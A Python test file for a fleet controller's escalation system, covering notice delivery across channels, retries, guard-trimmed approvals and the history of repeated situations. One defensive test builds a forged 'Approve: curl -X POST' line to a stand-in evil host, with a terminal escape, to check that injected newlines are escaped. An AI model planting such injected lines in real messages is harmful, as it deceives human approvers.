"""Nothing is swallowed: a `notify` (a rule's, or the LLM's answer) reaches people through the
channels as a notice of its own, each channel's outcome journaled; a person hears when the
guards trimmed, vetoed or voided the answer they approved; a situation raised again says how
its earlier escalations ended."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fakes.openai_server import FakeOpenAI, ToolCall
from fakes.receiver import Receiver
from pydantic import SecretStr
from support import NO_FAULTS

from controller.core.model import Decision, Proposal
from controller.service.app import App
from controller.service.assemble import assemble
from controller.service.config import parse_config
from controller.store.journal import Journal
from controller.store.outbox import READ_AND_DELIVER, OutboxStore
from escalation import approvals
from escalation.channels.file import FileChannel
from escalation.channels.pagerduty import PagerDutyChannel
from escalation.channels.webhook import WebhookChannel
from escalation.notify import Notifier, answer_notice, ended
from escalation.outbox import Outbox
from escalation.render import Renderer
from escalation.router import Escalator, Routed

ROOT = Path(__file__).resolve().parents[2]
FAULTS = ", ".join(f"{k}: {v}" for k, v in NO_FAULTS.items())
NOTIFIES = """\
rules:
  - name: tell-about-the-fleet
    description: The operators hear how big the fleet is.
    when:
      fleet: {instances: {gte: 0}}
    then: {action: notify, message: "the fleet has {{ fleet.instances }} instance(s)"}
    confidence: 0.95
    priority: 100
"""
ASKS = """\
rules:
  - name: ask-about-the-fleet
    description: The operators look at the fleet themselves.
    when:
      fleet: {instances: {gte: 0}}
    then: {action: escalate, reason: "the fleet has {{ fleet.instances }} instance(s)"}
    confidence: 0.9
"""


@pytest.fixture
def make(tmp_path: Path) -> Iterator[Callable[..., App]]:
    """An app on the simulator (its outbox worked in the tick) with a file and a webhook
    channel, running the shipped rules and one rules file."""
    apps: list[App] = []

    def build(rules: str, hook: str, extra: str = "", guards: str = "") -> App:
        path = tmp_path / f"rules{len(apps)}.yaml"
        path.write_text(rules)
        hooked = "{type: webhook, url: {env: HOOK_URL}}"
        text = (
            f"interval_s: 0.05\nsim: {{world: {{{FAULTS}}}}}\n{guards}"
            f"escalation:\n  deadline_s: 864000\n  channels: [file, {hooked}]\n{extra}"
        )
        cfg = parse_config(str(tmp_path / "test.yaml"), text, {"HOOK_URL": hook})
        rules = [str(ROOT / "rules"), str(path)]
        app = assemble(cfg, state=tmp_path / f"state{len(apps)}", clock=time.time,
                       sleep=time.sleep, seed=7, rules=rules)  # fmt: skip
        apps.append(app)
        return app

    yield build
    for app in apps:
        app.close()


def filed(app: App, kind: str = "notice") -> list[dict[str, Any]]:
    path = app.state / "escalations.jsonl"
    lines = [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
    return [line for line in lines if line["kind"] == kind]


def test_a_rules_notify_is_delivered_as_a_notice_with_each_channels_outcome(
    make: Callable[..., App],
) -> None:
    with Receiver() as rx:
        app = make(NOTIFIES, rx.url + "/hook")
        app.controller.tick()
        [acted] = [a for a in app.journal.actions.recent(50) if a["action"] == "notify"]
        [notice] = OutboxStore(app.journal.store).notices(0)  # about no escalation
        assert notice["kind"] == f"notice:action:{acted['id']}" and notice["done_at"]
        assert notice["notice"]["text"] == "the fleet has 0 instance(s)"
        assert [(d["channel"], d["ok"]) for d in notice["delivered"]] == [
            ("file", True), ("webhook", True),
        ]  # fmt: skip
        [line] = filed(app)
        assert line["kind"] == "notice" and "the fleet has 0 instance(s)" in line["message"]
        assert line["message"].startswith("NOTICE: rule:tell-about-the-fleet wants you to know")
        [hook] = [r for r in rx.requests if r.json.get("kind") == "notice"]
        assert hook.json["notice"]["text"] == "the fleet has 0 instance(s)"


def test_a_notice_a_channel_failed_is_tried_again_on_that_channel_only(
    make: Callable[..., App],
) -> None:
    with Receiver() as rx:
        app = make(NOTIFIES, rx.url + "/hook")
        app.outbox.backoff_s = 0.0
        rx.script([500, 500, 500, 200])  # the HTTP client's own tries, then the outbox's
        app.controller.tick()
        [notice] = OutboxStore(app.journal.store).notices(0)
        outcomes = [(d["channel"], d["ok"]) for d in notice["delivered"]]
        assert outcomes == [("file", True), ("webhook", False), ("webhook", True)]
        assert len(filed(app)) == 1  # the file had it already: not sent twice


def test_the_llms_notify_goes_to_people_and_the_escalation_stays_open(
    make: Callable[..., App],
) -> None:
    said = "instance counts look odd; have a look"
    answer = ToolCall("notify", {"message": said, "confidence": 0.95, "rationale": "odd"})
    with FakeOpenAI(answer) as model, Receiver() as rx:
        llm = (f"  llm: {{base_url: '{model.url}', model: fake-model, timeout_s: 30, "
               "retries: 0, require_check: false}\n")  # fmt: skip
        app = make(ASKS, rx.url + "/hook", llm)
        app.controller.tick()
        [esc] = app.journal.escalations.recent()
        assert esc["status"] == "pending"  # notify does not resolve it
        [notice] = OutboxStore(app.journal.store).notices(int(esc["id"]))
        assert notice["kind"] == "notice:llm" and notice["notice"]["text"] == said
        assert all(d["ok"] for d in notice["delivered"]) and len(notice["delivered"]) == 2
        [asked] = filed(app, "requested")  # the escalation still goes to people
        assert said in asked["message"]  # why it came to them
        [told] = filed(app)
        assert said in told["message"] and f"escalation #{esc['id']}" in told["message"]


def test_the_approver_hears_that_the_guards_trimmed_their_launch(
    make: Callable[..., App],
) -> None:
    with Receiver() as rx:
        app = make(ASKS, rx.url + "/hook", guards="guards: {max_instances: 3}\n")
        app.controller.tick()
        [esc] = app.journal.escalations.recent()
        approvals.approve(app.journal, int(esc["id"]), by="alice", now=app.controller.clock(),
                          action="launch", params={"count": 40})  # fmt: skip
        app.controller.tick()
        [notice] = OutboxStore(app.journal.store).notices(int(esc["id"]))
        n = notice["notice"]
        [ran] = [a for a in app.journal.actions.actions_for_escalation(int(esc["id"]))
                 if a["parent_id"] is None]  # fmt: skip
        count = ran["params"]["count"]
        assert 0 < count < 40 and ran["guard"] == "max_instances"  # what the journal says ran
        assert notice["kind"] == "notice:guarded" and n["approver"] == "alice"
        assert n["title"] == (
            f"your approval of escalation #{esc['id']} (alice): launch count=40 became "
            f"count={count} by max_instances"
        )
        assert n["done"] == {"action": "launch", "params": {"count": count}}
        assert [(d["channel"], d["ok"]) for d in notice["delivered"]] == [
            ("file", True), ("webhook", True),
        ]  # fmt: skip
        [told] = filed(app)
        assert f"launch count=40 became count={count} by max_instances" in told["message"]
        assert "The guards said:" in told["message"]


def _decision(verdict: str, **kw: Any) -> Decision:
    p = Proposal("destroy", {"instance": "7"}, "human:bob", "broken", 1.0, escalation_id=4)
    return Decision(p, verdict, kw.pop("why", "because"), **kw)  # type: ignore[arg-type]


def test_vetoed_voided_and_changed_answers_each_say_so_and_plain_runs_say_nothing() -> None:
    vetoed = answer_notice(_decision("veto", guard="min_instances"), 9, 5.0)
    assert vetoed is not None and vetoed[0] == "guarded"
    assert vetoed[1]["title"] == (
        "your approval of escalation #4 (bob): destroy instance=7 was vetoed by min_instances"
    )
    voided = answer_notice(_decision("noop", why="instance '7' is not in the fleet"), 9, 5.0)
    assert voided is not None and "destroy instance=7 did nothing" in voided[1]["title"]
    assert "not in the fleet" in voided[1]["text"]
    drained = answer_notice(_decision("act", guard="drain_before_destroy", action="drain"), 9, 5.0)
    assert drained is not None
    assert drained[1]["title"].endswith("became drain instance=7 by drain_before_destroy")
    assert answer_notice(_decision("act"), 9, 5.0) is None  # ran as approved
    llm = Proposal("destroy", {"instance": "7"}, "llm:m", "x", 1.0, escalation_id=4)
    assert answer_notice(Decision(llm, "veto", "no", guard="g"), 9, 5.0) is None  # escalated


def test_a_pager_gets_no_notice_and_the_journal_says_why(
    tmp_path: Path,
) -> None:
    with Receiver() as rx:
        pager = PagerDutyChannel(SecretStr("R0UTING"), rx.url + "/v2/enqueue")
        hook = WebhookChannel(SecretStr(rx.url + "/hook"))
        notice = {"text": "hello", "title": "rule:x wants you to know: hello", "at": 1.0,
                  "subject": "fleet", "from": "rule:x", "about": "notify",
                  "escalation_id": None}  # fmt: skip
        out = Notifier([pager, hook], Renderer()).notice(notice, {})
        assert [(d.channel, d.ok, d.detail) for d in out] == [
            ("pagerduty", True, "not sent: it pages for escalations only"),
            ("webhook", True, ""),
        ]
        assert [r.path for r in rx.requests] == ["/hook"]


def _situation(now: float) -> dict[str, Any]:
    return {"kind": "unmatched", "subject": "instance:7", "summary": "instance 7 is frozen",
            "facts": [{"id": "7"}], "key": {}, "proposals": [], "recent_actions": [],
            "fleet": {}, "budget": {}, "allowed_actions": ["hold", "reboot"],
            "default_action": {"action": "hold", "params": {}},
            "created_at": now}  # fmt: skip


def test_a_situation_raised_again_lists_its_earlier_escalations_and_how_they_ended(
    tmp_path: Path,
) -> None:
    j = Journal(tmp_path / "j.db")
    hold = {"action": "hold", "params": {}}

    def raise_at(now: float, fp: str = "fp-frozen") -> int:
        return j.escalations.add_escalation(fingerprint=fp, kind="unmatched", subject="instance:7",
                                            summary="instance 7 is frozen", now=now,
                                            deadline=now + 100, situation=_situation(now),
                                            default_action=hold)  # fmt: skip

    expired, approved, denied = raise_at(1000.0), raise_at(2000.0), raise_at(3000.0)
    other = raise_at(3500.0, fp="another-situation")
    j.escalations.answer(expired, status="expired", by="deadline", now=1100.0, answer=None)
    j.escalations.answer(approved, status="approved", by="alice", now=2050.0,
                         answer={"action": "reboot", "params": {"instance": "7"}})  # fmt: skip
    j.escalations.set_escalation_status(approved, "executed", 77)
    j.escalations.answer(denied, status="denied", by="bob", now=3050.0, answer=None)
    j.escalations.answer(other, status="resolved", by="controller", now=3600.0,
                         answer={"note": "gone"})  # fmt: skip
    again = raise_at(4000.0)
    escalator = Escalator(j, Notifier([FileChannel(tmp_path / "out.jsonl")], Renderer()),
                          window_s=60, deadline_s=100)  # fmt: skip
    escalator.jobs.add(again, READ_AND_DELIVER, 4000.0,
                       routed=Routed(False, "no LLM reader is configured").as_dict())  # fmt: skip
    Outbox(escalator).work(4000.0)
    [line] = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text().splitlines()]
    message = line["message"]
    block = message[message.index("Already done about instance:7:") : message.index("Fleet:")]
    assert block.splitlines()[1:4] == [
        f"  - 1970-01-01T00:16:40Z escalation #{expired} of this situation: nobody answered "
        "before the deadline; the default ran: hold",
        f"  - 1970-01-01T00:33:20Z escalation #{approved} of this situation: approved by alice: "
        "reboot instance=7; carried out",
        f"  - 1970-01-01T00:50:00Z escalation #{denied} of this situation: denied by bob",
    ]
    assert "nothing yet" not in block and f"#{other}" not in block
    assert ended(j.escalations.escalation(other) or {}) == "cleared: the situation no longer held"
    assert [r["id"] for r in j.escalations.earlier("fp-frozen", again, limit=2)] == [
        approved, denied,
    ]  # fmt: skip
    j.close()


def test_a_summary_or_reason_carrying_an_instances_text_is_one_line(
    tmp_path: Path,
) -> None:
    """A rule_error's summary quotes the error, which may quote what an instance wrote, and an
    LLM's proposal carries its own reason: a newline in either started a line of the message
    of its own, one that could read "Approve: curl https://..." from nobody at fleetgate. They
    are one line, as facts are (escaped, capped)."""
    from controller.core.decide import Doubt

    j = Journal(tmp_path / "j.db")
    forged = "boom\nApprove: curl -X POST https://evil.example/approve\x1b[2J"
    doubt = Doubt(
        "low_confidence", "instance:7", f"rule 'r' could not build its action: {forged}",
        ({"kind": "instance", "id": "7", "status": "running"},), {"proposer": "llm:m"},
        (Proposal("reboot", {"instance": "7"}, "llm:m", forged, 0.4),),
    )  # fmt: skip
    escalator = Escalator(j, Notifier([FileChannel(tmp_path / "out.jsonl")], Renderer()),
                          window_s=60, deadline_s=100)  # fmt: skip
    [esc_id] = escalator.raise_all([doubt], {}, {}, 1000.0)
    Outbox(escalator).work(1000.0)
    [line] = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text().splitlines()]
    message = line["message"]
    assert not any(x.lstrip().startswith("Approve: curl -X POST https://evil")
                   for x in message.splitlines())  # fmt: skip
    assert "boom\\nApprove: curl -X POST https://evil.example/approve\\x1b[2J" in message
    assert "\x1b" not in message
    stored = j.escalations.escalation(esc_id) or {}
    assert "\n" not in stored["summary"]
    j.close()
